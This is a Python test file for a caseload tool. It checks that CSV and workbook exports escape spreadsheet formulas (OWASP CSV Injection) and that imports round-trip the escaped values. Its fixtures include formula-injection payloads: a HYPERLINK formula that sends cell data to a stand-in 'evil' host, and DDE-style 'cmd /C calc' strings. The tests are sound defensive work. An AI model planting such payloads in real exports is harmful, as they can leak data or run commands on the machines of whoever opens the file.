"""Exports never hand a spreadsheet a formula (OWASP "CSV Injection"), and `import`
reads back what `export` wrote: the rule per cell, every CSV and workbook writer, and
the round trip through a real caseload."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from conftest import git
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from ipstui import cli
from ipstui.core import export
from ipstui.core.caseload import load
from ipstui.core.sheetsafe import TRIGGERS, csv_cell, from_csv_cell

TODAY = "2026-11-30"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil/?x="&A1,"click")', '\'=HYPERLINK("http://evil/?x="&A1,"click")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+45 12 34 56 78", "'+45 12 34 56 78"),
        ("-Anna", "'-Anna"),
        ("-", "'-"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=quoted", "''=quoted"),  # one more quote, so import takes exactly one off
        ("''+x", "'''+x"),
        ("-3", "-3"),  # plain numbers stay numbers
        ("+1.5", "+1.5"),
        ("-1e5", "-1e5"),
        ("-.5", "-.5"),
        ("'Tis", "'Tis"),  # a quote before an ordinary letter needs nothing
        ("Anna = B", "Anna = B"),
        ("", ""),
        (5, 5),
        (-2.5, -2.5),
        (None, None),
    ],
)
def test_the_rule_per_cell(value: object, cell: object) -> None:
    assert csv_cell(value) == cell
    if isinstance(value, str):
        assert from_csv_cell(cell) == value


@given(st.text(alphabet=st.sampled_from(list(TRIGGERS + "'aZ1.-+ é")), max_size=8) | st.text())
def test_every_text_round_trips_and_none_starts_a_formula(text: str) -> None:
    cell = csv_cell(text)
    assert from_csv_cell(cell) == text
    if cell and cell[0] in TRIGGERS:
        float(cell)  # only a plain number may begin with + or -


NAMES = [
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+45 12 34 56 78",
    "'=already quoted",
]
HOSTILE: dict[str, str] = {}
"""Open participant id -> the hostile name the fixture gave them."""


@pytest.fixture
def hostile(sample_caseload: Path) -> Path:
    open_ids = sorted(p.id for p in load(sample_caseload).participants.values()
                      if p.data["phase"] != "closed")  # fmt: skip
    HOSTILE.clear()
    HOSTILE.update(zip(open_ids, NAMES, strict=False))
    for pid, name in HOSTILE.items():
        assert cli.main(["set", pid, f"name={name}", "-C", str(sample_caseload),
                         "--today", TODAY]) == 0  # fmt: skip
    assert cli.main(["set", open_ids[-1], "notes=-1+cmd|' /C calc'!A0\n=second line",
                     "-C", str(sample_caseload), "--today", TODAY]) == 0  # fmt: skip
    return sample_caseload


def _formulas(path: Path) -> list[str]:
    wb = load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows()
            for c in row if c.data_type == "f"]  # fmt: skip


@pytest.mark.parametrize(
    "args",
    [
        ("export", "--format", "xlsx"),
        ("report", "--quarter", "2026Q3", "--format", "xlsx"),
    ],
)
def test_no_workbook_cell_is_a_formula(hostile: Path, tmp_path: Path, args: tuple[str, ...]) -> None:
    out = tmp_path / "out.xlsx"
    assert cli.main([*args, "--output", str(out), "-C", str(hostile), "--today", TODAY]) == 0
    assert _formulas(out) == []
    if args[0] == "export":
        ws = load_workbook(out)["participants"]
        names = {r[0]: r[1] for r in ws.iter_rows(min_row=2, values_only=True)}
        assert {pid: names[pid] for pid in HOSTILE} == HOSTILE  # shown as typed


@pytest.mark.parametrize(
    "args",
    [
        ("export",),
        ("report", "--quarter", "2026Q3", "--format", "csv"),
        ("fidelity", "--quarter", "2026Q3", "--format", "csv"),
        ("audit", "--since", "2000-01-01", "--format", "csv"),
    ],
)
def test_no_csv_cell_starts_a_formula(
    hostile: Path, capsys: pytest.CaptureFixture[str], args: tuple[str, ...]
) -> None:
    code = cli.main([*args, "-C", str(hostile), "--today", TODAY])
    out = capsys.readouterr().out
    assert code == 0, out
    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
    assert cells
    starting = [c for c in cells if c and c[0] in TRIGGERS and not _number(c)]
    assert starting == []


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_an_export_with_hostile_names_imports_back_as_typed(
    hostile: Path, caseload_dir: Path, tmp_path: Path
) -> None:
    (caseload_dir / "caseload.toml").write_text(
        (hostile / "caseload.toml").read_text().replace("as_of", "# as_of")
    )
    git(caseload_dir, "commit", "-qam", "the demo team")
    table = [r for r in export.rows(p.data for p in load(hostile).participants.values())
             if r["id"] in HOSTILE]  # fmt: skip
    out = tmp_path / "some.csv"
    out.write_text(export.to_csv(table))
    assert "'=HYPERLINK" in out.read_text()
    assert cli.main(["import", str(out), "-C", str(caseload_dir), "--today", TODAY]) == 0
    mine = {p.id: p.data["name"] for p in load(caseload_dir).participants.values()}
    assert mine == HOSTILE
